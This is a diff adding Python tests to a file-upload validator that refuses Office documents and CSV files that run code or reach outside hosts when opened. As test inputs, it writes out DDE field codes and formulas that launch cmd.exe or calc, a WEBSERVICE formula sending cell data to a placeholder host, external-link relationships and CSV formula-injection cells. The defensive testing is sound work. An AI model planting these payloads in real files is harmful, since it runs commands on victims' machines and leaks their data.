@@ -115,6 +115,71 @@ def test_a_template_from_elsewhere_is_refused():
         archives.check_office(word(**{"word___rels__settings.xml.rels": relations}))
 
 
+WORD = '<w:document xmlns:w="http://x"><w:body>{}</w:body></w:document>'
+SPLIT = "<w:instrText> DDE</w:instrText><w:t/><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>"
+LINKED = '<Relationships><Relationship Type="http://x/{}" Target="http://x/y" TargetMode="External"/></Relationships>'
+
+
+@pytest.mark.parametrize(
+    ("part", "content"),
+    [
+        ("word__a.xml", WORD.format(SPLIT)),
+        ("word__a.xml", WORD.format('<w:fldSimple w:instr="DDE excel x"/>')),
+        ("word__a.xml", WORD.format("<w:instrText>INCLUDETEXT &quot;\\\\\\\\host\\\\x&quot;</w:instrText>")),
+        ("word___rels__a.xml.rels", LINKED.format("oleObject")),
+        ("word___rels__a.xml.rels", LINKED.format("frame")),
+        ("xl__externalLinks___rels__a.xml.rels", LINKED.format("externalLinkPath")),
+        ("xl__a.xml", "<externalLink><ddeLink/></externalLink>"),
+        ("xl__a.xml", "<sheet><c><f>cmd|'/c calc'!A0</f></c></sheet>"),
+        ("xl__a.xml", '<sheet><c><f>_xlfn.WEBSERVICE("http://x/?"&amp;A1)</f></c></sheet>'),
+    ],
+)
+def test_what_reaches_out_when_it_is_opened_is_refused(part, content):
+    with pytest.raises(Refusal, match="外部数据链接"):
+        archives.check_office(word(**{part: content.encode()}))
+
+
+@pytest.mark.parametrize(
+    ("part", "content"),
+    [
+        (
+            "word__a.xml",
+            WORD.format("<w:t>DDE 是一种协议</w:t><w:instrText>HYPERLINK &quot;http://x/DDE &quot;</w:instrText>"),
+        ),
+        ("word__a.xml", WORD.format("<w:instrText> PAGE </w:instrText>")),
+        ("word___rels__a.xml.rels", LINKED.format("hyperlink")),
+        ("xl__a.xml", "<sheet><c><f>SUM(A1:A9)*RECALL_RATE</f></c></sheet>"),
+    ],
+)
+def test_links_page_numbers_and_sums_are_no_danger(part, content):
+    assert archives.check_office(word(**{part: content.encode()}))[0] == {"kind": "docx"}
+
+
+@pytest.mark.parametrize(
+    ("cell", "where"),
+    [
+        ("=1+1", "第 2 行第 2 列"),
+        ("@SUM(1)", "第 2 行第 2 列"),
+        ("  +cmd|'/c calc'!A0", "第 2 行第 2 列"),
+        ("＝1", "公式"),
+    ],
+)
+@pytest.mark.parametrize("comma", [",", ";", "\t"])
+def test_a_table_that_calculates_is_refused_with_the_place(cell, where, comma):
+    with pytest.raises(Refusal, match=where):
+        uploads.check("名单.csv", f"姓名{comma}数额\n甲{comma}{cell}".encode())
+
+
+def test_a_formula_does_not_hide_behind_another_comma():
+    with pytest.raises(Refusal, match="公式"):
+        uploads.check("名单.csv", "甲;乙;丙;丁\n1;2;3,=1+1;4".encode())
+
+
+@pytest.mark.parametrize("cell", ["-3", "+3.5", "-1,200.00", "－12", "-", "——", "-8%", "-1.2e-5", "a=b", "13800000000"])
+def test_a_table_of_signed_numbers_is_taken(cell):
+    assert uploads.check("名单.csv", f"姓名;数额\n甲;{cell}".encode()).extension == "csv"
+
+
 def test_archive_bombs_are_refused_before_they_are_unpacked():
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
